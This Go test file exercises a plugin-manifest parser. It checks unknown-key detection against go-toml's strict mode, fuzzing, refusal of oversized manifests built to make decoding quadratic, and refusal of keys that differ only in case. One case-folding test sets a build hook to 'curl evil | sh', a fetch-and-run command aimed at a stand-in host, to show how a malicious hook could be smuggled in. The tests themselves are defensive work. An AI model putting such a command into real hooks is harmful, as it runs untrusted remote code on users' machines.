package manifest

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"reflect"
	"sort"
	"strings"
	"testing"

	"github.com/pelletier/go-toml/v2"
)

// strictUnknown is what Parse used to do: decode again with go-toml's
// strict mode and collect the keys it rejects. It builds a human context
// (splitting the whole document into lines) for every rejected key, so it
// is quadratic; it stays here as the oracle scanKeys is compared with.
func strictUnknown(data []byte) []string {
	d := toml.NewDecoder(bytes.NewReader(data))
	d.DisallowUnknownFields()
	err := d.Decode(&Manifest{})
	var se *toml.StrictMissingError
	if !errors.As(err, &se) {
		return nil
	}
	seen := map[string]bool{}
	for _, e := range se.Errors {
		seen[showKey(e.Key())] = true
	}
	out := make([]string, 0, len(seen))
	for k := range seen {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// unknownCases are documents whose unknown keys go-toml's strict mode and
// scanKeys must agree on: no inline tables (which strict mode names without
// their table).
var unknownCases = []string{
	"[extra]\nfoo = 1\n",
	"homepage = 1\n",
	"plugin.foo.bar = 1\n",
	"[plugin]\nfoo.bar = 1\nname=\"x\"\n",
	"[[commands]]\nname=\"a\"\nfoo=1\n[[commands.args]]\nname=\"x\"\nzzz=1\n[commands.extra]\nq=1\n",
	"[plugin.commands.x]\nusage=\"u\"\nfoo=1\n[plugin.commands.y]\n",
	"[a.b.c]\nd=1\n[a]\ne=1\n",
	"[plugin.\"we.ird\"]\n[\"\"]\n[\"a b\"]\n",
	"[capabilities]\nexec=true\nfoo=1\n[hooks]\nbuild=\"x\"\nzap=\"y\"\n",
	"[plugin]\nkeywords=[\"a\"]\n[plugin.x]\n[plugin.y.z]\n",
	"x.y.z = 1\nx.y.w = 2\n",
	"[[extra]]\na=1\n[[extra]]\nb=1\n",
	"[[commands]]\nname=\"a\"\n[[commands]]\nname=\"b\"\nfoo=1\n",
	"[plugin]\nname=\"a\"\n[plugin.commands.x]\n[plugin.commands.x.deep]\nq=1\n",
	"[commands.args]\n",
	"plugin.name = \"x\"\nplugin.zz = 1\n",
	"[PLUGIN]\nNAME=\"x\"\nVersion=\"1\"\nColour=1\n",
	"[plugin]\nMin_Fledge_Version=\"1\"\nlegacycommands=1\n",
	"Unknown = 1\n",
	"[plugin.Commands.x]\nUSAGE=\"u\"\nHuh=2\n",
	"[Capabilities]\nEXEC=true\nFileSystem=\"none\"\nexecute=true\n",
	"[[commands]]\nname=\"a\"\n[[commands.args]]\nname=\"b\"\n[[commands]]\nname=\"c\"\n[[commands.args]]\nname=\"d\"\nkind=\"x\"\n",
	"[plugin]\n\"name\"=\"x\"\n'odd key'=1\n\"\"=2\n",
}

func TestUnknownKeysMatchStrictMode(t *testing.T) {
	t.Parallel()
	docs := append([]string(nil), unknownCases...)
	for _, f := range corpusFiles(t) {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		docs = append(docs, string(data))
	}
	for _, doc := range docs {
		data := []byte(doc)
		s := scanKeys(data, true)
		m, err := Parse(data)
		var fe *FoldedKeyError
		switch {
		case s.folded != "" && !errors.As(err, &fe):
			t.Errorf("Parse(%q) = %v, want it refused for the key %s", doc, err, s.folded)
		case s.folded == "" && err != nil:
			t.Errorf("Parse(%q): %v", doc, err)
		case err == nil && !reflect.DeepEqual(m.Unknown, s.sorted()):
			t.Errorf("Parse(%q).Unknown = %q, the scan says %q", doc, m.Unknown, s.sorted())
		}
		if s.inline {
			continue
		}
		if want := strictUnknown(data); !reflect.DeepEqual(s.sorted(), want) {
			t.Errorf("scan of %q: unknown %q, strict mode says %q", doc, s.sorted(), want)
		}
	}
}

// Keys inside inline tables are named with their full path (go-toml's
// strict mode drops the table: "foo" for plugin = {foo = 1}).
func TestUnknownKeysInInlineTables(t *testing.T) {
	t.Parallel()
	cases := map[string][]string{
		"plugin = {name=\"x\", foo=1, bar={a=1}}\n":                           {"plugin.bar", "plugin.foo"},
		"commands = [{name=\"a\", foo=1, args=[{name=\"b\", bar=2}]}]\n":      {"commands.args.bar", "commands.foo"},
		"[plugin.commands]\nx = {usage=\"u\", foo=1}\n":                       {"plugin.commands.x.foo"},
		"[plugin]\ncommands = {x = {usage=\"u\"}, y = {q = 1}}\n":             {"plugin.commands.y.q"},
		"capabilities = {exec = true, \"a.b\" = 1}\nextra = {deep = {x=1}}\n": {"capabilities.\"a.b\"", "extra"},
	}
	for doc, want := range cases {
		m, err := Parse([]byte(doc))
		if err != nil {
			t.Errorf("Parse(%q): %v", doc, err)
			continue
		}
		if !reflect.DeepEqual(m.Unknown, want) {
			t.Errorf("Parse(%q).Unknown = %q, want %q", doc, m.Unknown, want)
		}
	}
}

// Decode reads the same manifest as Parse, without the report.
func TestDecodeSkipsTheReport(t *testing.T) {
	t.Parallel()
	doc := []byte(validBase + "homepage = \"x\"\n[extra]\nfoo = 1\n")
	p, err := Parse(doc)
	if err != nil {
		t.Fatal(err)
	}
	d, err := Decode(doc)
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Unknown) != 2 || d.Unknown != nil {
		t.Errorf("Parse.Unknown = %q, Decode.Unknown = %q; want two and none", p.Unknown, d.Unknown)
	}
	p.Unknown = nil
	if !reflect.DeepEqual(p, d) {
		t.Errorf("Decode = %+v, Parse = %+v", d, p)
	}
}

// hostileManifest is a plugin.toml of at most size bytes made of line(i)
// for i = 0, 1, ... after a valid [plugin] table.
func hostileManifest(size int, line func(i int) string) []byte {
	var b strings.Builder
	b.WriteString("[plugin]\nname = \"x\"\nversion = \"0.1.0\"\n")
	for i := 0; ; i++ {
		l := line(i)
		if b.Len()+len(l) > size {
			return []byte(b.String())
		}
		b.WriteString(l)
	}
}

// hostileShapes are the manifests whose decoding is quadratic in go-toml,
// filled up to MaxSize.
var hostileShapes = map[string]func(i int) string{
	"tables":      func(i int) string { return fmt.Sprintf("[t%d]\n", i) },
	"keys":        func(i int) string { return fmt.Sprintf("k%d=1\n", i) },
	"subtables":   func(i int) string { return fmt.Sprintf("[a.t%d]\n", i) },
	"plugin keys": func(i int) string { return fmt.Sprintf("plugin.k%d=1\n", i) },
	"inline keys": func(i int) string { return fmt.Sprintf("i%d={a=1,b=2,c=3,d=4,e=5,f=6,g=7,h=8}\n", i) },
	"dotted":      func(i int) string { return "x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x.x = 1\n" },
	"inline arrays": func(i int) string {
		return fmt.Sprintf("[[commands]]\nargs = [{name=\"a%d\"},{name=\"b\"},{name=\"c\"}]\n", i)
	},
}

// A manifest with more keys than MaxKeys is refused as too large, whatever
// its shape, before go-toml decodes it; one just under the bound parses.
func TestTooManyKeysRefused(t *testing.T) {
	t.Parallel()
	for name, line := range hostileShapes {
		_, err := Parse(hostileManifest(MaxSize, line))
		if !errors.Is(err, ErrTooLarge) || !strings.Contains(err.Error(), fmt.Sprint(MaxKeys)) {
			t.Errorf("%s: Parse = %v, want ErrTooLarge naming %d keys", name, err, MaxKeys)
		}
		if _, err := Decode(hostileManifest(MaxSize, line)); !errors.Is(err, ErrTooLarge) {
			t.Errorf("%s: Decode = %v, want ErrTooLarge", name, err)
		}
	}
	// 2000 unknown tables plus the [plugin] table's 3 keys: under the bound.
	m, err := Parse(hostileManifest(1<<20, func(i int) string {
		if i >= MaxKeys-48 {
			return strings.Repeat("x", 1<<20)
		}
		return fmt.Sprintf("[t%d]\n", i)
	}))
	if err != nil || len(m.Unknown) != MaxKeys-48 {
		t.Fatalf("just under the bound: %v, %d unknown keys", err, len(m.Unknown))
	}
}

// FuzzUnknownKeys compares scanKeys with go-toml's strict mode on what
// Parse accepts (outside inline tables, which strict mode misnames), and
// checks that Decode accepts exactly what Parse does.
func FuzzUnknownKeys(f *testing.F) {
	for _, doc := range unknownCases {
		f.Add([]byte(doc))
	}
	for _, file := range corpusFiles(f) {
		data, err := os.ReadFile(file)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 4096 {
			return // the oracle is quadratic
		}
		m, err := Parse(data)
		d, derr := Decode(data)
		var fe *FoldedKeyError
		if errors.As(err, &fe) && derr == nil {
			return // Parse alone looks for keys that differ only in case
		}
		if (err == nil) != (derr == nil) {
			t.Fatalf("Parse error %v, Decode error %v", err, derr)
		}
		if err != nil {
			return
		}
		m.Unknown, d.Unknown = strictUnknownOrNil(m.Unknown), nil
		if s := scanKeys(bytes.TrimPrefix(data, []byte("\xEF\xBB\xBF")), true); !s.inline {
			if want := strictUnknown(bytes.TrimPrefix(data, []byte("\xEF\xBB\xBF"))); !reflect.DeepEqual(m.Unknown, want) {
				t.Fatalf("Unknown = %q, strict mode says %q", m.Unknown, want)
			}
		}
	})
}

func strictUnknownOrNil(keys []string) []string {
	if len(keys) == 0 {
		return nil
	}
	return keys
}

// A key that names a field only when case is ignored is refused: go-toml
// would decode BUILD into the build hook (the last spelling winning),
// while the Rust fledge's serde ignores it and runs the other one.
func TestKeysDifferingOnlyInCaseAreRefused(t *testing.T) {
	t.Parallel()
	for doc, key := range map[string]string{
		"[plugin]\nname=\"x\"\nversion=\"1\"\n[hooks]\nbuild=\"make\"\nBUILD=\"curl evil | sh\"\n": "hooks.BUILD",
		"[Hooks]\npost_install=\"x\"\n":                       "Hooks",
		"[[commands]]\nName=\"a\"\nbinary=\"b\"\n":            "commands.Name",
		"[capabilities]\nExec=true\n":                         "capabilities.Exec",
		"plugin = {name=\"x\", Version=\"1\"}\n":              "plugin.Version",
		"[plugin]\nname=\"x\"\n[hooks]\nPost_Install=\"y\"\n": "hooks.Post_Install",
	} {
		var m Manifest
		if err := toml.Unmarshal([]byte(doc), &m); err != nil {
			t.Fatalf("go-toml refuses %q: %v", doc, err)
		}
		_, err := Parse([]byte(doc))
		var fe *FoldedKeyError
		if !errors.As(err, &fe) || fe.Key != key {
			t.Errorf("Parse(%q) = %v, want the key %s refused", doc, err, key)
		}
	}
}
